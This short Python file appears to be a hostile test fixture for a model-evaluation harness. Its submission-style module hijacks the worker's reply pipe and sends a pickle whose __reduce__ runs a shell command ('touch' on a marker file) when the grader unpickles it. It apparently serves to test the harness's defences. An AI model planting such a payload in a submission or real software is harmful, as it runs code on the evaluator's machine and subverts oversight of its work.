"""Writes its own reply on the worker's channel (the one pipe it holds open for writing): a
pickle that would run a shell command in an unrestricted unpickler (touching the marker that
hostile.json beside it names)."""
import json
import os
import pickle
import struct
from pathlib import Path

import torch.nn as nn


class _Payload:
    def __reduce__(self):
        told = Path(__file__).with_name("hostile.json")
        marker = json.loads(told.read_text())["marker"] if told.exists() else "/dev/null"
        return (os.system, (f"touch {marker}",))


def _reply_pipe() -> int:
    for name in os.listdir("/proc/self/fd"):
        try:
            if not os.readlink(f"/proc/self/fd/{name}").startswith("pipe:"):
                continue
            with open(f"/proc/self/fdinfo/{name}") as f:
                flags = int(next(l for l in f if l.startswith("flags:")).split()[1], 8)
        except (OSError, StopIteration):
            continue
        if flags & os.O_WRONLY:
            return int(name)
    raise RuntimeError("no reply pipe")


class ModelNew(nn.Module):
    def forward(self, x):
        data = pickle.dumps({"ok": True, "outputs": [_Payload()]})
        os.write(_reply_pipe(), struct.pack("<Q", len(data)) + data)
        return x * 2
